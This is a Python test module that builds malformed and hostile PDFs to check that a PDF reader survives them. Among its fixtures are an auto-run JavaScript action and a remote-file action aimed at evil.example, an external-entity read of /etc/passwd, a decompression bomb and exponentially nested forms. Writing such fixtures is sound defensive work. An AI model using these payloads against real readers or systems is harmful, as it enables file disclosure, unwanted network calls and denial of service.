"""PDFs made to harm or to mislead whoever opens them, by code: none is stored."""

import io
import random
import zlib
from collections.abc import Callable, Mapping

import pypdfium2
from PIL import Image
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from tests.importing.articles import articles
from tests.importing.readers.pdf_building import LOOKS, pdf_of
from tests.importing.readers.pdf_pieces import LINES, lines, pdf

MEBIBYTE = 1 << 20
TEXT = lines(*LINES)


def objects(*bodies: bytes, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of raw objects, numbered from 1, with its table of where they are."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(bodies, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    end = b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, root, trailer, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table) + end


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def one_page(content: bytes, *more: bytes, page: bytes = b"", box: bytes = b"0 0 595 842") -> bytes:
    """A page of one stream of content (object 4), with Helvetica (5) as F."""
    kid = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>" % (box, page)
    return objects(CATALOG, PAGES, kid, content, FONT, *more)


def said(words: bytes) -> bytes:
    return stream(b"BT /F 11 Tf 72 700 Td (%s) Tj ET" % words)


def flate(size: int, times: int = 1) -> bytes:
    packed = b" " * size
    for _ in range(times):
        packed = zlib.compress(packed, 9)
    return one_page(stream(packed, b"/Filter[" + b"/FlateDecode" * times + b"]"))


def bomb(mebibytes: int) -> bytes:
    """Blanks that come to so much: the same packed stretch again and again, which starts anew each time."""
    packer = zlib.compressobj(9, wbits=-15)
    stretch = packer.compress(b" " * MEBIBYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return one_page(stream(b"\x78\x9c" + stretch * mebibytes + b"\x03\x00", b"/Filter/FlateDecode"))


def forms(depth: int) -> bytes:
    """Drawings that each draw the next one ten times."""
    first = 6
    nested = [
        stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (first + number + 1),
        )
        for number in range(depth)
    ]
    last = stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return one_page(stream(b"/X Do"), *nested, last, page=b"/XObject<</X 6 0 R>>")


def scan(turned: bool = False, side: int = 900) -> bytes:
    """A picture of a page, with nothing else on it."""
    stream_ = io.BytesIO()
    canvas = Canvas(stream_, invariant=True)
    picture = Image.new("L", (side, side), 255)
    canvas.drawImage(ImageReader(picture), 0, 0, 595, 842)
    if turned:
        canvas.setPageRotation(90)
    canvas.showPage()
    canvas.save()
    return stream_.getvalue()


def scan_of(data: bytes) -> bytes:
    """The pages of a PDF as pictures."""
    made = io.BytesIO()
    canvas = Canvas(made, invariant=True)
    with pypdfium2.PdfDocument(data) as document:
        for page in document:
            canvas.setPageSize(page.get_size())
            picture = page.render(scale=200 / 72, grayscale=True).to_pil()
            canvas.drawImage(ImageReader(picture), 0, 0, *page.get_size())
            canvas.showPage()
    canvas.save()
    return made.getvalue()


def meaningless() -> bytes:
    """A page whose font says that its letters mean signs for private use."""
    pairs = b"".join(b"<%02x> <%04x>\n" % (code, 0xE100 + code) for code in range(32, 127))
    mapping = stream(
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange\n"
        b"95 beginbfchar\n%sendbfchar endcmap end" % pairs
    )
    words = stream(b"BT /F 11 Tf 14 TL 72 700 Td " + b"".join(b"(%s) Tj T* " % line.encode() for line in LINES) + b"ET")
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding/ToUnicode 6 0 R>>"
    kid = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    return objects(CATALOG, PAGES, kid, words, font, mapping)


def shifted() -> bytes:
    """A page whose letters are given as others, as a font without a table of meanings gives them."""
    return pdf(lines(*("".join(chr((ord(sign) - 29) % 95 + 32) for sign in line) for line in LINES * 4), step=12))


def deep(depth: int) -> bytes:
    return one_page(stream(b"[" * depth + b"]" * depth))


def many_pages(count: int) -> bytes:
    """So many pages, all of them the same object but for their names."""
    kids = b" ".join(b"%d 0 R" % (5 + number) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>>>>>"
    tree = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)
    return objects(CATALOG, tree, FONT, said(b"Words of a page."), *[page] * count)


Make = Callable[[], bytes]

# Each ends in a document or in a reason, in this very process.
HARMLESS: Mapping[str, Make] = {
    "page tree in a circle": lambda: objects(CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
    "page that is its own parent": lambda: objects(
        CATALOG, PAGES, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Kids[3 0 R]>>"
    ),
    "pages that are not there": lambda: objects(CATALOG, b"<</Type/Pages/Kids[]/Count 99999>>"),
    "pages fewer than none": lambda: objects(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count -1>>"),
    "no catalogue": lambda: objects(b"<</Type/Nothing>>"),
    "huge page": lambda: one_page(said(b"Words."), box=b"0 0 1e12 1e12"),
    "letters larger than any page": lambda: one_page(
        stream(b"BT /F 11 Tf 1e38 0 0 1e38 72 700 Tm (Words) Tj 1 0 0 1e-38 72 600 Tm (more words) Tj ET")
    ),
    "letters too small to see": lambda: one_page(stream(b"BT /F 0.01 Tf 72 700 Td (A) Tj ET")),
    "letters at no angle": lambda: one_page(
        stream(b"0 0 1 60 339.5 0 cm " * 22 + b"BT /F 11 Tf 1 0 0 1 60 360 Tm (a month.) Tj 4 Ts /F 6 Tf (2) Tj ET")
    ),
    "page of no size": lambda: one_page(said(b"Words."), box=b"0 0 0 0"),
    "page of numbers that are none": lambda: one_page(said(b"Words."), box=b"nan inf 0 -1e308"),
    "picture that lies about its size": lambda: one_page(
        stream(b"q 500 0 0 700 0 0 cm /I Do Q"),
        stream(
            b"\xff", b"/Type/XObject/Subtype/Image/Width 999999/Height 999999/BitsPerComponent 8/ColorSpace/DeviceGray"
        ),
        page=b"/XObject<</I 6 0 R>>",
    ),
    "font that lies about its size": lambda: one_page(
        said(b"Words."), stream(b"\x00\x01\x00\x00" * 9, b"/Length1 2147483647")
    ).replace(
        b"/BaseFont/Helvetica>>", b"/BaseFont/X/FirstChar 0/LastChar 9999999/FontDescriptor<</FontFile2 6 0 R>>>>"
    ),
    "stream that is longer than it says": lambda: one_page(
        b"<</Length 3>>\nstream\n" + b"(a) Tj " * 99 + b"\nendstream"
    ),
    "stream that filters itself a hundred times": lambda: flate(1000, 100),
    "forms that draw each other": lambda: one_page(
        stream(b"/X Do"),
        stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"),
        page=b"/XObject<</X 6 0 R>>",
    ),
    "a program in it": lambda: pdf(TEXT).replace(
        b"/Type /Catalog", b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>/Type /Catalog"
    ),
    "a file to fetch": lambda: pdf(TEXT).replace(
        b"/Type /Catalog", b"/OpenAction<</S/GoToR/F(//evil.example/share)>>/Type /Catalog"
    ),
    "an entity from outside in its metadata": lambda: one_page(
        said(b"Words."), stream(b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>', b"/Type/Metadata")
    ),
    "deep brackets": lambda: deep(100_000),
    "words without end on one spot": lambda: one_page(stream(b"BT /F 1 Tf " + b"(aaaaaaaaaa) Tj " * 60_000 + b"ET")),
    "words all over one line": lambda: one_page(
        stream(b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d 99 Tm (ab) Tj " % (n % 590) for n in range(9_000)) + b"ET")
    ),
    "lines one over the other": lambda: one_page(
        stream(b"BT /F 9 Tf " + b"".join(b"1 0 0 1 9 %.2f Tm (abc) Tj " % (n / 20) for n in range(9_000)) + b"ET")
    ),
    "nothing but its first line": lambda: b"%PDF-1.7\n",
    "text called a PDF": lambda: b"%PDF-1.4\nThese are words.\n%%EOF",
    "a thousand versions of itself": lambda: pdf(TEXT) + b"\nstartxref\n9\n%%EOF" * 1000,
    "an index in a circle": lambda: objects(CATALOG, PAGES, trailer=b"/Prev 9"),
}

# Only a process of its own withstands these.
DEADLY: Mapping[str, Make] = {
    "flate bomb": lambda: bomb(3000),
    "forms that come to ten thousand million": lambda: forms(10),
}


def damaged(seed: int) -> bytes:
    """An article of some layout cut short, or with some of its bits turned over."""
    chance = random.Random(seed)  # noqa: S311 - the same damage each time
    look = LOOKS[chance.choice(list(LOOKS))]
    data = bytearray(pdf_of(chance.choice(articles()), look))
    if seed % 2:
        return bytes(data[: chance.randrange(1, len(data))])
    for _ in range(chance.randrange(1, 60)):
        data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
    return bytes(data)
